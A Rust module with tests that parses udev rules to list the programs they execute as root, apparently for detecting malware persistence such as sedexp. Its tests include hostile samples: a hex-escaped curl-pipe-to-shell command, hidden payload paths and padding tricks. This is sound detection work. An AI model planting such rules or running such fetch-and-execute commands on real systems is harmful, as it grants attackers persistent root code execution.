//! The programs a udev rule runs (udev(7)): `RUN+=`/`RUN=` (and `RUN{program}`) after the event,
//! `PROGRAM==` while matching and `IMPORT{program}=` to read properties. udev runs each of them as root,
//! split into words and executed without a shell, on every event the rule matches — including the ones
//! every boot replays (sedexp's `ENV{MAJOR}=="1", ENV{MINOR}=="8"` is `/dev/random`). `RUN{builtin}` and
//! `IMPORT{builtin|file|db|cmdline|parent}` name udev's own code or data, not a program.
//!
//! Values are read as udev reads them: `"..."` with `\"` a quote, `e"..."` with C escapes decoded
//! (`\x2f` is `/`), `i"..."` as written. udev substitutes `$env{KEY}` / `%E{KEY}` before it runs a
//! program: the `ENV{KEY}=` assignments of the rules read so far ([`Env`]) are substituted here too, so
//! `ENV{P}="/dev/shm/.m", RUN+="$env{P}"` reads as running `/dev/shm/.m`. A program named without a `/`
//! is looked up in udev's own program directory (the caller's: `/usr/lib/udev/`, `/lib/udev/` on a host
//! without a merged `/usr`); one still starting with `$` or `%` (a property nothing here set) is left as
//! written.

use std::collections::HashMap;

/// Variables kept from `ENV{KEY}=` assignments, and the longest value kept.
const MAX_ENV: usize = 256;
const MAX_ENV_VALUE: usize = 4096;

/// `ENV{KEY}` values assigned by the rules read so far in a file.
#[derive(Debug, Default)]
pub struct Env(HashMap<Vec<u8>, Vec<u8>>);

/// What one rule runs.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct RulePrograms {
    /// The commands, in order, each as udev executes it.
    pub programs: Vec<Vec<u8>>,
    /// A `RUN`, `PROGRAM` or `IMPORT` key the reader could not read (an unknown value syntax): the rule
    /// may run something this list lacks.
    pub unread: bool,
}

/// The commands one rule line (continuations already joined) runs, reading and extending `env`; a bare
/// program name is resolved against `program_dir` (ending in `/`).
pub fn rule_programs(line: &[u8], env: &mut Env, program_dir: &[u8]) -> RulePrograms {
    let mut out = RulePrograms::default();
    let mut rest = line;
    loop {
        if rest.iter().all(|b| b.is_ascii_whitespace() || *b == b',') {
            break;
        }
        let Some((pair, after)) = next_pair(rest) else {
            out.unread = [&b"RUN"[..], b"PROGRAM", b"IMPORT"]
                .iter()
                .any(|k| rest.windows(k.len()).any(|w| w == *k));
            break;
        };
        rest = after;
        if pair.key == b"ENV" && matches!(pair.op, b"=" | b":=") {
            if let Some(name) = pair.attr {
                if env.0.len() < MAX_ENV || env.0.contains_key(name) {
                    let mut v = pair.value.clone();
                    v.truncate(MAX_ENV_VALUE);
                    env.0.insert(name.to_vec(), v);
                }
            }
        }
        if runs_program(pair.key, pair.attr) {
            let value = substitute(&pair.value, env);
            let value = value.trim_ascii();
            if !value.is_empty() {
                out.programs.push(resolve(value, program_dir));
            }
        }
    }
    out
}

/// Whether a key (with its `{attribute}`) names a program udev executes.
fn runs_program(key: &[u8], attr: Option<&[u8]>) -> bool {
    match key {
        b"RUN" => attr.is_none_or(|a| a == b"program"),
        b"PROGRAM" => true,
        b"IMPORT" => attr == Some(b"program"),
        _ => false,
    }
}

/// `$env{KEY}` and `%E{KEY}` replaced by the values `env` holds; others left as written.
fn substitute(value: &[u8], env: &Env) -> Vec<u8> {
    let mut out = Vec::with_capacity(value.len());
    let mut i = 0;
    while let Some(&b) = value.get(i) {
        let rest = value.get(i..).unwrap_or_default();
        let open = [&b"$env{"[..], b"%E{"]
            .iter()
            .find(|p| rest.starts_with(p))
            .map(|p| p.len());
        if let Some(len) = open {
            let inner = rest.get(len..).unwrap_or_default();
            if let Some(close) = inner.iter().position(|c| *c == b'}') {
                let name = inner.get(..close).unwrap_or_default();
                if let Some(v) = env.0.get(name) {
                    if out.len() + v.len() <= MAX_ENV_VALUE * 4 {
                        out.extend_from_slice(v);
                        i += len + close + 1;
                        continue;
                    }
                }
            }
        }
        out.push(b);
        i += 1;
    }
    out
}

/// A command whose first word has no `/` (and is no unresolved `$`/`%` substitution) gets udev's program
/// directory in front of it.
fn resolve(command: &[u8], program_dir: &[u8]) -> Vec<u8> {
    let first = command
        .split(|b| b.is_ascii_whitespace())
        .next()
        .unwrap_or_default();
    if first.contains(&b'/') || first.starts_with(b"$") || first.starts_with(b"%") {
        command.to_vec()
    } else {
        [program_dir, command].concat()
    }
}

/// One `KEY{attr} OP VALUE` of a rule.
struct Pair<'a> {
    key: &'a [u8],
    attr: Option<&'a [u8]>,
    op: &'a [u8],
    value: Vec<u8>,
}

/// The next pair of a rule, and the text after it. udev separates pairs with commas.
fn next_pair(text: &[u8]) -> Option<(Pair<'_>, &[u8])> {
    let start = text
        .iter()
        .position(|b| !(b.is_ascii_whitespace() || *b == b','))?;
    let text = text.get(start..)?;
    let key_len = text
        .iter()
        .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
        .unwrap_or(text.len());
    let key = text.get(..key_len)?;
    let mut rest = text.get(key_len..)?;
    let mut attr = None;
    if let Some(inner) = rest.strip_prefix(b"{") {
        let close = inner.iter().position(|b| *b == b'}')?;
        attr = inner.get(..close);
        rest = inner.get(close + 1..)?;
    }
    let rest = rest.trim_ascii_start();
    let op_len = rest
        .iter()
        .position(|b| !matches!(b, b'=' | b'!' | b'+' | b'-' | b':'))
        .unwrap_or(rest.len());
    if key.is_empty() || op_len == 0 {
        return None;
    }
    let op = rest.get(..op_len)?;
    let rest = rest.get(op_len..)?.trim_ascii_start();
    // `e"..."` decodes C escapes, `i"..."` takes the text as written, `"..."` only unescapes `\"`.
    let (style, rest) = match rest.first() {
        Some(b'e') => (b'e', rest.get(1..)?),
        Some(b'i') => (b'i', rest.get(1..)?),
        _ => (b'"', rest),
    };
    let rest = rest.strip_prefix(b"\"")?;
    let mut value = Vec::new();
    let mut i = 0;
    while let Some(&b) = rest.get(i) {
        match b {
            b'\\' if style != b'i' => {
                let (bytes, used) = unescape(rest.get(i + 1..).unwrap_or_default(), style);
                value.extend_from_slice(&bytes);
                i += 1 + used;
            }
            b'"' => {
                let pair = Pair {
                    key,
                    attr,
                    op,
                    value,
                };
                return Some((pair, rest.get(i + 1..)?));
            }
            _ => {
                value.push(b);
                i += 1;
            }
        }
    }
    None
}

/// The bytes one backslash sequence stands for (after the `\`) and how many bytes it used: a plain value
/// unescapes `\"` only (`\` otherwise stays); an `e"..."` value decodes C escapes.
fn unescape(after: &[u8], style: u8) -> (Vec<u8>, usize) {
    let Some(&c) = after.first() else {
        return (vec![b'\\'], 0);
    };
    if style != b'e' {
        return if c == b'"' {
            (vec![b'"'], 1)
        } else {
            (vec![b'\\'], 0)
        };
    }
    let simple = match c {
        b'a' => Some(7),
        b'b' => Some(8),
        b'f' => Some(12),
        b'n' => Some(b'\n'),
        b'r' => Some(b'\r'),
        b't' => Some(b'\t'),
        b'v' => Some(11),
        b'\\' | b'"' | b'\'' => Some(c),
        _ => None,
    };
    if let Some(b) = simple {
        return (vec![b], 1);
    }
    if c == b'x' {
        let hex = after.get(1..3).and_then(|h| std::str::from_utf8(h).ok());
        if let Some(v) = hex.and_then(|h| u8::from_str_radix(h, 16).ok()) {
            return (vec![v], 3);
        }
    }
    if c.is_ascii_digit() {
        let oct = after.get(..3).and_then(|h| std::str::from_utf8(h).ok());
        if let Some(v) = oct.and_then(|h| u8::from_str_radix(h, 8).ok()) {
            return (vec![v], 3);
        }
    }
    (vec![b'\\'], 0)
}

#[cfg(test)]
mod tests {
    use super::*;

    const DIR: &[u8] = b"/usr/lib/udev/";

    fn programs(line: &[u8]) -> Vec<String> {
        rule_programs(line, &mut Env::default(), DIR)
            .programs
            .iter()
            .map(|p| String::from_utf8_lossy(p).into_owned())
            .collect()
    }

    #[test]
    fn run_program_and_import_program_are_what_a_rule_executes() {
        // sedexp (Aon, 2024): a bare name, started from udev's directory at every boot.
        assert_eq!(
            programs(br#"ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="kudevd --reboot""#),
            vec!["/usr/lib/udev/kudevd --reboot"]
        );
        assert_eq!(
            programs(
                br#"KERNEL=="sd[a-z]", RUN+="/bin/sh -c 'echo mq-deadline > /sys/block/%k/queue/scheduler'", RUN{program}+="/usr/local/bin/x \"q\"""#
            ),
            vec![
                "/bin/sh -c 'echo mq-deadline > /sys/block/%k/queue/scheduler'",
                "/usr/local/bin/x \"q\""
            ]
        );
        assert_eq!(
            programs(br#"TEST!="dm", IMPORT{program}="/sbin/dmsetup info -j %M", PROGRAM=="ata_id --export $devnode""#),
            vec![
                "/sbin/dmsetup info -j %M",
                "/usr/lib/udev/ata_id --export $devnode"
            ]
        );
        // A host without a merged /usr keeps udev's programs in /lib/udev.
        let old = rule_programs(br#"RUN+="kudevd""#, &mut Env::default(), b"/lib/udev/");
        assert_eq!(old.programs, vec![b"/lib/udev/kudevd".to_vec()]);
    }

    #[test]
    fn padding_escapes_and_properties_do_not_hide_the_program() {
        // Review of train 1, item 5: no count of harmless keys hides the one that matters.
        let mut padded = Vec::new();
        for _ in 0..40 {
            padded.extend_from_slice(br#"IMPORT{program}="/bin/true", "#);
        }
        padded.extend_from_slice(br#"RUN+="/tmp/.x/m""#);
        assert_eq!(
            programs(&padded).last().map(String::as_str),
            Some("/tmp/.x/m")
        );
        // Item 6: e"..." with C escapes, i"..." as written.
        assert_eq!(
            programs(
                br#"RUN+=e"\x2fbin\x2fsh -c 'curl -fsSL http://x/u.sh|sh'", RUN+=i"/opt/a\n""#
            ),
            vec!["/bin/sh -c 'curl -fsSL http://x/u.sh|sh'", "/opt/a\\n"]
        );
        // Item 7: a property set by this or an earlier rule is substituted before the program is resolved.
        let mut env = Env::default();
        let first = rule_programs(br#"ENV{P}="/dev/shm/.m""#, &mut env, DIR);
        assert!(first.programs.is_empty() && !first.unread);
        let later = rule_programs(
            br#"ACTION=="add", RUN+="$env{P} -d", RUN+="%E{Q}""#,
            &mut env,
            DIR,
        );
        assert_eq!(
            later.programs,
            vec![b"/dev/shm/.m -d".to_vec(), b"%E{Q}".to_vec()]
        );
    }

    #[test]
    fn builtins_matches_and_assignments_run_nothing_unreadable_keys_are_said() {
        assert!(programs(br#"TAG=="uaccess", ENV{MAJOR}!="", RUN{builtin}+="uaccess""#).is_empty());
        assert!(programs(
            br#"IMPORT{builtin}="path_id", IMPORT{file}="/run/x", ENV{ID_RUN}="RUN+=x""#
        )
        .is_empty());
        assert!(programs(br#"SUBSYSTEM=="net", NAME="eth0", SYMLINK+="RUN""#).is_empty());
        let read = |l: &[u8]| rule_programs(l, &mut Env::default(), DIR);
        // Malformed text: what was read before stays, and a program key after it is said to be unread.
        let bad = read(br#"RUN+="/opt/a", GARBAGE, RUN+="/opt/b""#);
        assert_eq!(bad.programs, vec![b"/opt/a".to_vec()]);
        assert!(bad.unread);
        assert!(read(br#"RUN+="/opt/never-closed"#).unread);
        assert!(!read(br#"KERNEL=="x", GARBAGE"#).unread);
        assert_eq!(read(b""), RulePrograms::default());
    }
}
